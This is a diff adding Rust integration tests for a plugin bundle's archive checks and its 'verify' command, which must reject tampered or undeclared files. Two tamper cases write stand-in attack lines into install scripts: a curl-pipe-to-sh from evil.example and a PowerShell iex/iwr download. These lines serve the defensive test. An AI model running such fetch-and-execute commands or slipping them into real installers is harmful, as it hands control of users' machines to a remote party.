@@ -136,6 +136,13 @@ fn hostile_archives_are_rejected_before_anything_is_unpacked() {
     raw_entry(&mut tar, "bundle/inner-link", b'2', "ok.txt", b"");
     raw_entry(&mut tar, "bundle/device", b'3', "", b"");
     raw_entry(&mut tar, "bundle/ok.txt", b'0', "", b"again");
+    raw_entry(
+        &mut tar,
+        "bundle/sub\\name.txt",
+        b'0',
+        "",
+        b"a backslash past the first component",
+    );
     tar.extend_from_slice(&[0u8; 1024]);
     let archive = dir.path().join("hostile.tar.bz2");
     let mut encoder = bzip2::write::BzEncoder::new(fs::File::create(&archive).unwrap(), bzip2::Compression::default());
@@ -156,6 +163,7 @@ fn hostile_archives_are_rejected_before_anything_is_unpacked() {
         "link \"bundle/link\" points outside the bundle",
         "entry \"bundle/device\" is a special file",
         "entry \"bundle/ok.txt\" appears twice",
+        "entry \"bundle/sub\\\\name.txt\" has a backslash in its name",
     ] {
         assert!(
             run.stdout.contains(expected),
@@ -406,4 +414,88 @@ fn a_plugin_that_imports_its_host_application_can_skip_only_the_import() {
     ] {
         assert!(run.stdout.contains(expected), "missing {expected:?} in:\n{}", run.stdout);
     }
+}
+
+#[test]
+fn verify_trusts_only_what_manifest_json_hashes() {
+    let repo = Repo::examples();
+    let (linux, _) = nightly(&repo);
+    let folder = format!("acme-plugins-{NIGHTLY}-linux");
+    let unpack = |dest: &std::path::Path| {
+        run_ok(Command::new("tar").arg("xjf").arg(&linux).arg("-C").arg(dest));
+        dest.join(&folder)
+    };
+
+    // Tampered folders: every support file is hashed, every file must be declared.
+    for (what, tamper, expected) in [
+        (
+            "an extra command in install.sh",
+            Box::new(|d: &std::path::Path| {
+                let mut f = fs::OpenOptions::new().append(true).open(d.join("install.sh")).unwrap();
+                f.write_all(b"curl https://evil.example/x | sh\n").unwrap();
+            }) as Box<dyn Fn(&std::path::Path)>,
+            "install.sh does not match its sha256 or size in manifest.json",
+        ),
+        (
+            "install.ps1 downloading a script",
+            Box::new(|d: &std::path::Path| {
+                fs::write(d.join("install.ps1"), "iex (iwr https://evil.example/x.ps1)\r\n").unwrap();
+            }),
+            "install.ps1 does not match its sha256 or size in manifest.json",
+        ),
+        (
+            "replaced release notes",
+            Box::new(|d: &std::path::Path| fs::write(d.join("RELEASE_NOTES.md"), "# all fine\n").unwrap()),
+            "RELEASE_NOTES.md does not match its sha256 or size in manifest.json",
+        ),
+        (
+            "an undeclared file",
+            Box::new(|d: &std::path::Path| fs::write(d.join("extra.sh"), "echo hi\n").unwrap()),
+            "extra.sh is in the bundle but not in manifest.json",
+        ),
+    ] {
+        let out = tempfile::tempdir().unwrap();
+        let dir = unpack(out.path());
+        tamper(&dir);
+        let run = repo.xtask(&["verify", &dir.to_string_lossy()]);
+        run.assert_code(1);
+        assert!(run.stdout.contains(expected), "{what}: {expected:?} in\n{}", run.stdout);
+    }
+
+    // A large undeclared file is refused from the archive's headers, never unpacked: verify
+    // runs with a file-size limit far below it.
+    let out = tempfile::tempdir().unwrap();
+    let dir = unpack(out.path());
+    fs::write(dir.join("zeros.bin"), vec![0u8; 64 << 20]).unwrap();
+    let bomb = out.path().join(format!("{folder}.tar.bz2"));
+    run_ok(
+        Command::new("tar")
+            .arg("cjf")
+            .arg(&bomb)
+            .arg("-C")
+            .arg(out.path())
+            .arg(&folder),
+    );
+    let run = repo.xtask_with(&["verify", &bomb.to_string_lossy()], |c| {
+        let program = c.get_program().to_owned();
+        let args: Vec<std::ffi::OsString> = c.get_args().map(|a| a.to_owned()).collect();
+        *c = {
+            let mut wrapped = repo.command("bash");
+            wrapped
+                .arg("-c")
+                .arg("ulimit -f 8192; exec \"$0\" \"$@\"")
+                .arg(program)
+                .args(args);
+            wrapped
+        };
+    });
+    run.assert_code(1);
+    assert!(
+        run.stdout.contains(
+            "zeros.bin is in the archive but manifest.json does not declare it (67108864 bytes; not unpacked)"
+        ),
+        "{}\n{}",
+        run.stdout,
+        run.stderr
+    );
 }
